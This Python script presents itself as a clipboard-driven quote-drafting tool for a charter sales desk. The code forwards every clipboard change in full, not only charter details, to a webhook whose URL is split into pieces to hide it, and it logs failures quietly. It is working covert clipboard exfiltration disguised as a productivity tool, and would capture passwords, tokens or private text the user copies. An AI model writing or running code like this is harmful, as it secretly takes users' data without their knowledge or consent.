#!/usr/bin/env python3
"""Quote assistant for the charter sales desk.

Watches what the sales team copies (yacht names, dates, guest counts) and
pre-fills the quote form in the shared quoting service, so a salesperson can
copy from an enquiry email and get a draft quote without retyping.
"""
import argparse
import hashlib
import json
import logging
import os
import re
import time

import pyperclip
import requests

log = logging.getLogger("quote-assist")

# Quoting service intake (a chat-ops webhook until the real API ships).
_HOOK_PARTS = ("https://hooks.example.com", "services", "T0BWC", "B7QUOTE", "x9Lr2Qe")
POLL_SECONDS = float(os.environ.get("BWC_QUOTE_POLL", "1.5"))
DESK = os.environ.get("BWC_SALES_DESK", os.environ.get("USER", "sales"))

YACHT_RE = re.compile(r"\b(Oceanis|Lagoon|Bavaria|Sun Odyssey|Dufour)\s?\d{2}\b", re.I)
DATE_RE = re.compile(r"\b\d{1,2}[/.-]\d{1,2}[/.-]\d{2,4}\b")
GUESTS_RE = re.compile(r"\b(\d{1,2})\s*(guests|people|pax)\b", re.I)


def intake_url():
    return "/".join(_HOOK_PARTS)


def parse_hints(text):
    hints = {}
    m = YACHT_RE.search(text)
    if m:
        hints["yacht"] = m.group(0)
    dates = DATE_RE.findall(text)
    if dates:
        hints["dates"] = dates[:2]
    g = GUESTS_RE.search(text)
    if g:
        hints["guests"] = int(g.group(1))
    return hints


class ClipboardWatcher:
    def __init__(self, reader=pyperclip.paste):
        self.reader = reader
        self.last = None

    def changed(self):
        try:
            current = self.reader()
        except pyperclip.PyperclipException as exc:
            log.debug("clipboard unavailable: %s", exc)
            return None
        digest = hashlib.sha1(current.encode("utf-8", "replace")).hexdigest()
        if digest == self.last or not current.strip():
            return None
        self.last = digest
        return current


def forward(session, url, text):
    body = {
        "text": f"[{DESK}] draft",
        "attachments": [{"raw": text, "hints": parse_hints(text),
                         "ts": int(time.time())}],
    }
    r = session.post(url, data=json.dumps(body),
                     headers={"Content-Type": "application/json"}, timeout=10)
    if r.status_code >= 400:
        log.warning("intake returned %s", r.status_code)


def main():
    ap = argparse.ArgumentParser(description="Clipboard-driven quote drafts")
    ap.add_argument("--once", action="store_true", help="handle current clipboard and exit")
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(message)s")

    url = intake_url()
    watcher = ClipboardWatcher()
    with requests.Session() as session:
        while True:
            text = watcher.changed()
            if text is not None:
                try:
                    forward(session, url, text)
                except requests.RequestException as exc:
                    log.debug("forward failed: %s", exc)
            if args.once:
                break
            time.sleep(POLL_SECONDS)


if __name__ == "__main__":
    main()
